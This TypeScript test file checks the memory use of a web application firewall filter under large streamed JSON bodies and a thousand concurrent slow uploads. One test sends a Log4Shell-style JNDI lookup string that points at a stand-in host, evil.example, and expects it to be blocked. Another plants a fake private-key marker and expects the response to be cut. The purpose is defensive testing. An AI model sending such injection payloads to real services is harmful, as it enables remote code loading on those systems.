// Memory of the VM: a stream of any length each way in STREAMED, and a thousand slow uploads at once, stay within 64 MiB.
// `npm run test:large` sends a GiB each way; `npm test` less, which grows as soon.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test, type TestContext } from "node:test";
import type { ObservedResponse } from "./observed-response.ts";
import { openExchange, type OpenExchange } from "./open-exchange.ts";
import { type Bootstrap, eventually, ProtectedApi, withTrailers } from "./protected-api.ts";

const MIB = 1024 * 1024;
const STREAM_BYTES = (process.env["WARDGATE_LARGE"] === "1" ? 1024 : 128) * MIB;
const MEMORY_LIMIT = 64 * MIB;
const UPLOADS = 1000;
const UPLOAD_BYTES = 100_000;
const TIMEOUT_MS = 600_000;

const CONFIGURATION = JSON.stringify({
  ...{ mode: "block", hold_headers: true, block_rules: ["wg-resp-004"] },
  routes: [
    {
      match: { path_prefix: "/streamed/" },
      ...{ request_body: "STREAMED", response_body: "STREAMED" },
    },
  ],
});

describe("memory of the VM", { timeout: TIMEOUT_MS }, () => {
  let api: ProtectedApi;
  before(async () => {
    api = await ProtectedApi.start({
      ...{ version: "1.40.0", configuration: CONFIGURATION, concurrency: 1, keepsRaw: false, edit: patient },
    });
  });
  after(() => api?.stop());

  const assertSmall = async (context: TestContext): Promise<void> => {
    const bytes = await memoryOf(api);
    context.diagnostic(`memory of the VM: ${(bytes / MIB).toFixed(1)} MiB`);
    assert.ok(bytes < MEMORY_LIMIT, `the VM has ${bytes} bytes`);
  };
  const size = `${STREAM_BYTES / MIB} MiB`;

  test(`${size} of JSON to the upstream, an attack at its end → cut there, memory flat`, async (context) => {
    const id = randomUUID();
    api.upstream.countOnly(id);
    const exchange = await open(api, "/streamed/", id);
    await exchange.send(Buffer.from("["));
    await sendRecords(STREAM_BYTES, (bytes) => exchange.send(bytes));
    await api.upstream.until(id, "all of it", ({ content }) => content.length > STREAM_BYTES, TIMEOUT_MS);
    await assertSmall(context);
    await exchange.send(Buffer.from('{"name":"${jndi:ldap://evil.example/a}"}'));
    const { response } = exchange;
    await response.changes.until("the end", () => response.ending);
    assert.equal(response.status, 403);
    assert.equal(api.upstream.of(id)[0]?.complete, false);
    exchange.abort();
    const { event } = await api.traffic.of(`/streamed/${id}`);
    assert.deepEqual([event?.action, event?.limits], ["block", undefined]);
  });

  test(`${size} of JSON to the client, a leak at its end → cut there, memory flat`, async (context) => {
    const id = randomUUID();
    const isThere = ({ content }: ObservedResponse) => (content.length > STREAM_BYTES ? true : undefined);
    api.upstream.serve(id, async (upstream) => {
      upstream.head(200, { "content-type": "application/json" });
      const { response } = await opened;
      await upstream.send(Buffer.from("["));
      await sendRecords(STREAM_BYTES, (bytes) => upstream.send(bytes));
      await response.changes.until("all of it", () => isThere(response), TIMEOUT_MS);
      await upstream.send(Buffer.from('"-----BEGIN RSA PRIVATE KEY-----"]'));
      upstream.end();
    });
    const opened = open(api, "/streamed/", id, true);
    const exchange = await opened;
    const { response } = exchange;
    response.content.keeps = false;
    await response.changes.until("the end", () => response.ending, TIMEOUT_MS);
    await assertSmall(context);
    assert.equal(response.ending, "truncated");
    assert.ok(isThere(response), "everything before the leak arrives");
    exchange.abort();
    const { event } = await api.traffic.of(`/streamed/${id}`);
    assert.deepEqual([event?.action, event?.limits, event?.rules], ["reset", undefined, ["wg-resp-004"]]);
  });

  const long = `{"note":"${"two lamps ".repeat(UPLOAD_BYTES / 10)}"}`;
  for (const [kind, body, path] of [
    ["records", recordsBody(), "/held/"],
    ["one long string", long, "/held/"],
    ["one long string", long, "/streamed/"],
  ] as const) {
    test(`${UPLOADS} slow uploads of ${UPLOAD_BYTES} bytes at once, ${kind}, ${path} → none fails, memory within bounds`, async (context) => {
      const bytes = Buffer.from(body);
      const uploads: { id: string; exchange: OpenExchange }[] = [];
      for (let i = 0; i < UPLOADS; i++) {
        const id = randomUUID();
        uploads.push({ id, exchange: await open(api, path, id) });
      }
      // All bodies are under way at the same time: each gets its next part only when all have the one before.
      const parts = 8;
      for (let part = 0; part < parts - 1; part++) {
        const slice = bytes.subarray((bytes.length * part) / parts, (bytes.length * (part + 1)) / parts);
        for (const { exchange } of uploads) await exchange.send(slice);
      }
      await assertSmall(context);
      const last = bytes.subarray((bytes.length * (parts - 1)) / parts);
      for (const { exchange } of uploads) {
        await exchange.send(last);
        exchange.end();
      }
      for (const { id, exchange } of uploads) {
        const { response } = exchange;
        await response.changes.until("the end of an upload", () => response.ending, 60_000);
        assert.deepEqual([response.status, response.ending], [200, "complete"]);
        assert.ok(api.upstream.of(id)[0]!.body.equals(bytes), "the body arrives unchanged");
        exchange.abort();
        api.upstream.forget(id);
      }
      await assertSmall(context);
    });
  }

  test("after all of this → no VM failed, nothing was logged as an error", () => api.assertHealthy());
});

function open(api: ProtectedApi, prefix: string, id: string, bodyless = false): Promise<OpenExchange> {
  return openExchange("HTTP/1.1", api.port, {
    ...{ method: bodyless ? "GET" : "POST", path: `${prefix}${id}`, bodyless },
    headers: { "x-test-id": id, ...(bodyless ? {} : { "content-type": "application/json" }) },
  });
}

/** Sends JSON records, each with a comma behind it, of `size` bytes together or a little more. */
async function sendRecords(size: number, send: (bytes: Buffer) => Promise<void>): Promise<void> {
  const block = Buffer.from(Array.from({ length: 1000 }, (_, i) => `${record(i)},`).join(""));
  for (let sent = 0; sent < size; sent += block.length) await send(block);
}

function recordsBody(): string {
  const records: string[] = [];
  for (let i = 0, length = 0; length < UPLOAD_BYTES; i++) {
    records.push(record(i));
    length += record(i).length + 1;
  }
  return `[${records.join(",")}]`;
}

function record(i: number): string {
  const note =
    "Delivered on time, with the garden table and two lamps that were ordered in the winter. ".repeat(3);
  return JSON.stringify({ id: i, name: `Item ${i}`, price: i / 4, note });
}

/** The filter's own figure, which it hands over once a second: waits for one that is newer than this call. */
async function memoryOf(api: ProtectedApi): Promise<number> {
  const started = await requestsOf(api);
  const probe = await openExchange("HTTP/1.1", api.port, { path: "/probe", bodyless: true });
  await probe.response.changes.until("the probe's end", () => probe.response.ending);
  probe.abort();
  await eventually("newer stats", async () => ((await requestsOf(api)) > started ? true : undefined));
  const gauges = await api.envoy.stats("wardgate_vm_memory_bytes");
  return Math.max(...gauges.values());
}

async function requestsOf(api: ProtectedApi): Promise<number> {
  const counters = await api.envoy.stats("wardgate_requests$");
  return Math.max(0, ...counters.values());
}

/** No time limit on requests. */
function patient(bootstrap: Bootstrap): void {
  withTrailers(bootstrap);
  const [listener] = bootstrap.static_resources.listeners;
  const manager = listener.filter_chains[0].filters[0].typed_config;
  manager.route_config.virtual_hosts[0].routes[0].route.timeout = "0s";
  const [cluster] = bootstrap.static_resources.clusters;
  cluster.circuit_breakers = {
    thresholds: [{ max_connections: 4096, max_pending_requests: 4096, max_requests: 4096 }],
  };
}
